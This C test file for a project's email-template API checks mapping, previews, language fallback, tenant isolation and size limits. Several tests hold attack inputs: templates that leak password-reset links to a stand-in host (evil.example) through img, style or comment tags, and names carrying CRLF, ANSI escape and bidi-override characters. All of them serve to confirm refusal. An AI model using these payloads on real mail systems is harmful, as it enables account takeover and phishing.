/*
 * test_templates.c - a project's mail templates over HTTP: mapping, preview, languages, unmapping.
 */
#include <CUnit/CUnit.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/support/suite.h"
#include "tests/support/suite_command.h"
#include "tests/support/unit.h"

#define TEMPLATES "/v1/project/email-templates"

enum { MAIL_MS = 10000 };

static const char *const languages[] = {"de", "en", "es", "fr", "it", "nl", "pt"};

static struct suite *suite;
static const char not_found[] = "Template not found.";

static struct http_answer *put(const char *access, const char *name, const char *json)
{
    char path[160];

    snprintf(path, sizeof(path), TEMPLATES "/%s", name);
    return http_call(
        suite_url(suite),
        &(struct http_request){.method = "PUT", .path = path, .bearer = access, .raw = json});
}

static struct http_answer *preview(const char *access, const char *name, const char *json)
{
    char path[160];

    snprintf(path, sizeof(path), TEMPLATES "/%s/preview", name);
    return http_call(
        suite_url(suite),
        &(struct http_request){.method = "POST", .path = path, .bearer = access, .raw = json});
}

static struct http_answer *unmap(const char *access, const char *rest)
{
    char path[160];

    snprintf(path, sizeof(path), TEMPLATES "/%s", rest);
    return http_delete(suite_url(suite), path, access);
}

static size_t count(const char *access)
{
    HTTP_ANSWER list = http_get(suite_url(suite), TEMPLATES, access);

    CHECK_STATUS(list, 200);
    return json_array_size(http_member(list, "resources"));
}

static void templates_are_mapped_and_unmapped(void)
{
    PERSON there = person_admin_of_child(suite, "mapping");

    CU_ASSERT_EQUAL(count(there->access), 0);
    HTTP_ANSWER plain =
        put(there->access, "PATIENT_WELCOME",
            "{\"subject\":\"Hi {{recipientName}}\",\"text\":\"At {{ projectName }}\"}");
    CHECK_STATUS(plain, 200);
    CU_ASSERT_STRING_EQUAL(http_text(plain, "name"), "PATIENT_WELCOME");
    CU_ASSERT_TRUE(json_is_null(http_member(plain, "language")));
    CU_ASSERT_TRUE(json_is_null(http_member(plain, "html")));
    HTTP_ANSWER german = put(there->access, "PATIENT_WELCOME",
                             "{\"subject\":\"Hallo\",\"text\":\"t\",\"html\":\"<b>{{appUrl}}</"
                             "b>\",\"language\":\"DE\"}");
    CHECK_STATUS(german, 200);
    CU_ASSERT_STRING_EQUAL(http_text(german, "language"), "de");
    HTTP_ANSWER replaced =
        put(there->access, "PATIENT_WELCOME", "{\"subject\":\"Hello\",\"text\":\"t\"}");
    CHECK_STATUS(replaced, 200);
    HTTP_ANSWER list = http_get(suite_url(suite), TEMPLATES, there->access);
    CU_ASSERT_EQUAL(json_array_size(http_member(list, "resources")), 2);
    CU_ASSERT_STRING_EQUAL(http_text(list, "resources.0.subject"), "Hello");
    CU_ASSERT_TRUE(json_is_null(http_member(list, "resources.0.language")));
    CU_ASSERT_STRING_EQUAL(http_text(list, "resources.1.html"), "<b>{{appUrl}}</b>");

    HTTP_ANSWER french = unmap(there->access, "PATIENT_WELCOME?language=fr");
    CHECK_ERROR(french, 404, not_found);
    HTTP_ANSWER one = unmap(there->access, "PATIENT_WELCOME?language=de");
    CHECK_STATUS(one, 204);
    CU_ASSERT_EQUAL(count(there->access), 1);
    HTTP_ANSWER again = put(there->access, "PATIENT_WELCOME",
                            "{\"subject\":\"S\",\"text\":\"t\",\"language\":\"es\"}");
    CHECK_STATUS(again, 200);
    HTTP_ANSWER unlabelled = unmap(there->access, "PATIENT_WELCOME?language=");
    CHECK_STATUS(unlabelled, 204);
    CU_ASSERT_EQUAL(count(there->access), 1);
    HTTP_ANSWER all = unmap(there->access, "PATIENT_WELCOME");
    CHECK_STATUS(all, 204);
    CU_ASSERT_EQUAL(count(there->access), 0);
    HTTP_ANSWER none = unmap(there->access, "PATIENT_WELCOME");
    CHECK_ERROR(none, 404, not_found);
}

static void bad_templates_are_refused(void)
{
    static const struct {
        const char *body, *path;
    } rows[] = {
        {"{\"text\":\"t\"}", "subject"},
        {"{\"subject\":\"s\"}", "text"},
        {"{\"subject\":\"\",\"text\":\"t\"}", "subject"},
        {"{\"subject\":\"{{resetUrl}}\",\"text\":\"t\"}", "subject"},
        {"{\"subject\":\"s\",\"text\":\"{{appUrl}} {{no}}\"}", "text"},
        {"{\"subject\":\"s\",\"text\":\"{{appUrl\"}", "text"},
        {"{\"subject\":\"s\",\"text\":\"t\",\"html\":\"{{{appUrl}}}\"}", "html"},
        {"{\"subject\":\"s\",\"text\":\"t\",\"language\":\"en_US\"}", "language"},
    };
    PERSON there = person_admin_of_child(suite, "refusing");

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        HTTP_ANSWER answer = put(there->access, "PATIENT_WELCOME", rows[i].body);

        CHECK_PROBLEM(answer, rows[i].path);
    }
    HTTP_ANSWER unknown = put(there->access, "NO_SUCH", "{\"subject\":\"s\",\"text\":\"{{no}}\"}");
    CHECK_ERROR(unknown, 404, not_found);
    HTTP_ANSWER gone = unmap(there->access, "NO_SUCH");
    CHECK_ERROR(gone, 404, not_found);
    HTTP_ANSWER language = unmap(there->access, "PATIENT_WELCOME?language=e");
    CHECK_PROBLEM(language, "language");
    CU_ASSERT_EQUAL(count(there->access), 0);
}

static void previews_have_sample_values(void)
{
    PERSON there = person_admin_of_child(suite, "previews");

    HTTP_ANSWER early = preview(there->access, "PASSWORD_RESET", "{}");
    CHECK_ERROR(early, 404, not_found);
    HTTP_ANSWER unknown = preview(there->access, "NO_SUCH", "{}");
    CHECK_ERROR(unknown, 404, not_found);
    HTTP_ANSWER mapped = put(there->access, "PASSWORD_RESET",
                             "{\"subject\":\"For {{recipientName}}\",\"text\":\"{{resetUrl}}\","
                             "\"html\":\"<a href=\\\"{{resetUrl}}\\\">\"}");
    CHECK_STATUS(mapped, 200);
    HTTP_ANSWER german = put(there->access, "PASSWORD_RESET",
                             "{\"subject\":\"S\",\"text\":\"deutsch\",\"language\":\"de\"}");
    CHECK_STATUS(german, 200);

    HTTP_ANSWER bare = http_call(suite_url(suite),
                                 &(struct http_request){.method = "POST",
                                                        .path = TEMPLATES "/PASSWORD_RESET/preview",
                                                        .bearer = there->access});
    CHECK_STATUS(bare, 200);
    CU_ASSERT_STRING_EQUAL(http_text(bare, "subject"), "For Ana Lima");
    CU_ASSERT_TRUE(strncmp(http_text(bare, "text"), "https://", 8) == 0);
    CU_ASSERT_TRUE(strstr(http_text(bare, "text"), "&secret=") != NULL);
    CU_ASSERT_TRUE(strstr(http_text(bare, "html"), "&amp;secret=") != NULL);
    HTTP_ANSWER swiss = preview(there->access, "PASSWORD_RESET", "{\"language\":\"de-CH\"}");
    CU_ASSERT_STRING_EQUAL(http_text(swiss, "text"), "deutsch");
    CU_ASSERT_TRUE(json_is_null(http_member(swiss, "html")));
    HTTP_ANSWER bad = preview(there->access, "PASSWORD_RESET", "{\"language\":\"d\"}");
    CHECK_PROBLEM(bad, "language");
}

static void operators_see_previews(void)
{
    PROGRAM shown = ATRIUMCTL(suite, NULL, "template", "preview", "--project", "demo",
                              "ORGANIZATION_CODE", "--json");
    CHECK_EXIT(shown, 0);
    CU_ASSERT_TRUE(strstr(program_text(shown, "text"), "lakeside") != NULL);
    PROGRAM unknown =
        ATRIUMCTL(suite, NULL, "template", "preview", "--project", "demo", "GOOD_NIGHT");
    CHECK_REFUSED(unknown, 1, not_found);
}

static void the_longest_preview_fits(void)
{
    enum { PART = 262144 };
    static const struct {
        const char *name, *begin, *hole;
    } rows[] = {
        {"PATIENT_WELCOME", "", "{{appUrl}}"},
        {"EMAIL_CHANGED", "https://lakeside.example/?", "{{undoUrl}}"}, /* percent-encoded */
    };
    PERSON there = person_admin_of_child(suite, "longest");
    char *part = malloc(PART + 1);

    for (size_t r = 0; r < ARRAY_SIZE(rows); r++) {
        size_t hole = strlen(rows[r].hole);
        char path[64];

        snprintf(path, sizeof(path), TEMPLATES "/%s", rows[r].name);
        strcpy(part, rows[r].begin);
        for (size_t i = strlen(part); i + hole <= PART; i += hole)
            memcpy(part + i, rows[r].hole, hole + 1);
        HTTP_ANSWER mapped =
            http_put(suite_url(suite), path, there->access,
                     json_pack("{s:s, s:s, s:s}", "subject", "s", "text", part, "html", part));
        CHECK_STATUS(mapped, 200);
        HTTP_ANSWER shown = preview(there->access, rows[r].name, "{}");
        CHECK_STATUS(shown, 200);
        CU_ASSERT_TRUE(strlen(http_text(shown, "html")) > PART);
        CU_ASSERT_TRUE(strlen(http_text(shown, "text")) > PART);
    }
    free(part);
}

static void mail_falls_back_to_the_default_language(void)
{
    static const struct {
        const char *locales, *want;
    } rows[] = {
        {"{\"defaultLanguage\":\"de\"}", "Subject: Willkommen\r\n"},
        {"{\"defaultLanguage\":\"es\"}", "Subject: Welcome to "},
        {"{\"defaultLanguage\":\"en\"}", "Subject: Welcome to "},
    };
    PERSON admin = person_admin(suite);
    HTTP_ANSWER german =
        put(admin->access, "PATIENT_WELCOME",
            "{\"subject\":\"Willkommen\",\"text\":\"{{appUrl}}\",\"language\":\"de\"}");
    CHECK_STATUS(german, 200);

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        HTTP_ANSWER changed =
            http_call(suite_url(suite), &(struct http_request){.method = "PATCH",
                                                               .path = "/locales",
                                                               .bearer = admin->access,
                                                               .raw = rows[i].locales});
        PERSON patient = person_register(suite, NULL);
        char *mail = suite_mail(suite, patient->email, MAIL_MS);

        CHECK_STATUS(changed, 200);
        UNIT_CHECK(mail && strstr(mail, rows[i].want), "%s: %s", rows[i].locales, mail);
        free(mail);
    }
}

static void tenants_are_apart(void)
{
    PERSON admin = person_admin(suite);
    PERSON there = person_admin_of_child(suite, "apart");
    PERSON patient = person_register(suite, NULL);
    size_t before = count(admin->access);

    HTTP_ANSWER foreign = unmap(there->access, "PATIENT_WELCOME");
    CHECK_ERROR(foreign, 404, not_found);
    HTTP_ANSWER hidden = preview(there->access, "PATIENT_WELCOME", "{}");
    CHECK_ERROR(hidden, 404, not_found);
    CU_ASSERT_EQUAL(count(admin->access), before);
    HTTP_ANSWER refused = http_get(suite_url(suite), TEMPLATES, patient->access);
    CHECK_ERROR(refused, 403, "Forbidden");
}

/* Attack: an admin's template sends the link that opens an account to a foreign server. */
static void secret_links_stand_as_text_or_href_only(void)
{
    static const struct {
        const char *name, *json, *path; /* path NULL: accepted */
    } rows[] = {
        {"PASSWORD_RESET",
         "{\"subject\":\"s\",\"text\":\"{{resetUrl}}\",\"html\":\"<img "
         "src=\\\"{{resetUrl}}\\\">\"}",
         "html"},
        {"PASSWORD_RESET", "{\"subject\":\"{{resetUrl}}\",\"text\":\"x\"}", "subject"},
        {"EMAIL_VERIFICATION",
         "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<a "
         "href='https://e.example/?{{verifyUrl}}'>x</a>\"}",
         "html"},
        {"CLINICIAN_SIGNUP_INVITE",
         "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<style>{{continueAsPatientUrl}}</style>\"}",
         "html"},
        {"EMAIL_CHANGED", "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<!-- {{undoUrl}} -->\"}",
         "html"},
        {"INVITE_TO_PROJECT",
         "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<p><a "
         "href='{{invitationUrl}}'>{{invitationUrl}}</a></p>\"}",
         NULL},
    };
    PERSON there = person_admin_of_child(suite, "secret-links");

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        HTTP_ANSWER answer = put(there->access, rows[i].name, rows[i].json);

        if (rows[i].path)
            CHECK_PROBLEM(answer, rows[i].path);
        else
            CHECK_STATUS(answer, 200);
    }
}

static void older_templates_send_their_text_only(void)
{
    PERSON patient = person_register(suite, NULL);
    PERSON admin = person_admin(suite);
    HTTP_ANSWER mapped =
        put(admin->access, "PASSWORD_RESET",
            "{\"subject\":\"Reset\",\"text\":\"Link: {{resetUrl}}\",\"html\":\"<p>x</p>\"}");

    CHECK_STATUS(mapped, 200);
    free(suite_query(suite,
                     "with w as (update mail.template set html = '<img "
                     "src=\"https://evil.example/?{{resetUrl}}\">',"
                     "subject = 'Reset {{resetUrl}}' where name = 'PASSWORD_RESET' returning name) "
                     "select count(*) from w"));
    CU_ASSERT_TRUE(suite_mails_arrive(suite, patient->email, 1)); /* its welcome */
    HTTP_ANSWER requested =
        suite_post_fresh(suite, "/auth/reset-password",
                         json_pack("{s:s, s:s}", "email", patient->email, "tenantCode", "demo"));
    CHECK_STATUS(requested, 200);
    CU_ASSERT_TRUE(suite_mails_arrive(suite, patient->email, 2));

    char *mail = suite_mail(suite, patient->email, MAIL_MS);
    CU_ASSERT_TRUE(mail && strstr(mail, "Link: http") && !strstr(mail, "evil.example"));
    CU_ASSERT_TRUE(mail && strstr(mail, "Subject: Reset \r\n"));
    free(mail);
    HTTP_ANSWER again = put(admin->access, "PASSWORD_RESET",
                            "{\"subject\":\"Reset\",\"text\":\"Link: {{resetUrl}}\"}");
    CHECK_STATUS(again, 200);
}

/* Attack: a name as paragraph, link or escape sequence in an email. */
static void harmful_names_are_refused_everywhere(void)
{
    static const char *const bad[] = {
        "Ana\r\n\r\nYour account is closed", "A\x1b[2J", "A\u202eB", "\u2066A", "\u200b", " "};
    PERSON admin = person_admin(suite);

    for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
        char *email = person_address();
        json_t *body = body_register(email, "demo"), *policy = json_object();

        json_object_set_new(body, "name", json_string(bad[i]));
        json_object_set_new(body, "surname", json_string(bad[i]));
        HTTP_ANSWER registered = suite_post_fresh(suite, "/auth/tenant/Patient/register", body);
        CHECK_PROBLEM(registered, "name");
        CHECK_PROBLEM(registered, "surname");
        HTTP_ANSWER member = http_post(suite_url(suite), "/v1/projects/me/members", admin->access,
                                       json_pack("{s:s, s:s, s:s}", "email", email, "firstName",
                                                 bad[i], "lastName", bad[i]));
        CHECK_PROBLEM(member, "firstName");
        CHECK_PROBLEM(member, "lastName");
        HTTP_ANSWER child = http_post(suite_url(suite), "/v1/slim/project/child", admin->access,
                                      json_pack("{s:s}", "name", bad[i]));
        CHECK_PROBLEM(child, "name");
        json_object_set_new(policy, "name", json_string(bad[i]));
        HTTP_ANSWER access =
            http_post(suite_url(suite), "/v1/project/access-policies", admin->access, policy);
        CHECK_PROBLEM(access, "name");
        HTTP_ANSWER client = http_post(suite_url(suite), "/v1/project/clients", admin->access,
                                       json_pack("{s:s}", "name", bad[i]));
        CHECK_PROBLEM(client, "name");
        free(email);
    }
}

static void names_in_mails_are_harmless(void)
{
    char *email = person_address();
    json_t *body = body_register(email, "demo");

    free(suite_query(
        suite, "with p as (update settings.project set name = E'Demo\\r\\n\\r\\nPay here\\u202e' "
               "where parent_id is null returning id) select count(*) from p"));
    json_object_set_new(body, "name", json_string("Visit"));
    json_object_set_new(body, "surname", json_string("evil.example"));
    HTTP_ANSWER registered = suite_post_fresh(suite, "/auth/tenant/Patient/register", body);
    CHECK_STATUS(registered, 200);
    free(suite_mail(suite, email, MAIL_MS));

    char *mail = suite_mail(suite, email, MAIL_MS);
    struct program *read;
    static const char *const reader[] = {"/usr/bin/python3", "tests/support/mail_json.py", NULL};

    read = program_run(reader, mail ? mail : "");
    CHECK_EXIT(read, 0);
    CU_ASSERT_TRUE(mail && !strstr(mail, "\r\nPay here"));
    CU_ASSERT_PTR_NULL(strstr(read->out, "evil.example"));
    UNIT_CHECK(strstr(read->out, "evil.\u2060example") || strstr(read->out, "evil.\\u2060example"),
               "%s", read->out);
    program_destroy(&read);
    free(suite_query(suite,
                     "with p as (update settings.project set name = 'Demo' where parent_id is null "
                     "returning id) select count(*) from p"));
    free(mail);
    free(email);
}

/* Language tags are unlimited, and the list shows every template in full. */
static void the_templates_of_a_project_are_bounded(void)
{
    enum { LARGE = 250000, FIT = 6, OLDER = 400 };
    PERSON there = person_admin_of_child(suite, "filling");
    char *text = malloc(LARGE + 1);

    memset(text, 'x', LARGE);
    text[LARGE] = '\0';
    for (int i = 0; i <= FIT; i++) {
        HTTP_ANSWER answer = http_put(suite_url(suite), TEMPLATES "/PATIENT_WELCOME", there->access,
                                      json_pack("{s:s, s:s, s:s, s:s}", "language", languages[i],
                                                "subject", "Large", "text", text, "html", text));

        UNIT_CHECK(answer->status == (i < FIT ? 200 : 409), "template %d: %d", i, answer->status);
    }
    CU_ASSERT_EQUAL(count(there->access), FIT);
    /* a replacement must not be larger */
    HTTP_ANSWER again = http_put(suite_url(suite), TEMPLATES "/PATIENT_WELCOME", there->access,
                                 json_pack("{s:s, s:s, s:s}", "language", languages[0], "subject",
                                           "Small", "text", text));
    CHECK_STATUS(again, 200);

    /* older releases allowed this many: the list shows as much as fits, immediately */
    UNIT_CHECK(
        suite_count(suite,
                    "with more as (insert into mail.template (project_id, name, language, "
                    "subject, html, text, updated_at) select project_id, name, 'en-x-' || i, "
                    "subject, html, text, updated_at from mail.template t, "
                    "generate_series(1000, %d) i where t.language = '%s' and t.project_id = "
                    "'%s' returning 1) select count(*) from more",
                    999 + OLDER, languages[1], strchr(there->project, '/') + 1) == OLDER,
        "more");
    size_t shown = count(there->access);
    UNIT_CHECK(shown >= FIT - 1 && shown < OLDER, "%zu shown", shown);
    HTTP_ANSWER smaller = http_put(suite_url(suite), TEMPLATES "/PATIENT_WELCOME", there->access,
                                   json_pack("{s:s, s:s, s:s}", "language", languages[1], "subject",
                                             "Small", "text", "smaller"));
    CHECK_STATUS(smaller, 200);
    free(text);
}

static void suite_shuts_down_cleanly(void)
{
    suite_stop(&suite);
}

static const struct unit_case cases[] = {
    CASE(templates_are_mapped_and_unmapped),
    CASE(bad_templates_are_refused),
    CASE(previews_have_sample_values),
    CASE(operators_see_previews),
    CASE(the_longest_preview_fits),
    CASE(mail_falls_back_to_the_default_language),
    CASE(tenants_are_apart),
    CASE(secret_links_stand_as_text_or_href_only),
    CASE(older_templates_send_their_text_only),
    CASE(harmful_names_are_refused_everywhere),
    CASE(names_in_mails_are_harmless),
    CASE(the_templates_of_a_project_are_bounded),
    CASE_ALWAYS(suite_shuts_down_cleanly),
};

int main(void)
{
    suite = suite_start(&(struct suite_options){.instances = "maild=2"});
    return unit_run("templates", cases, ARRAY_SIZE(cases));
}
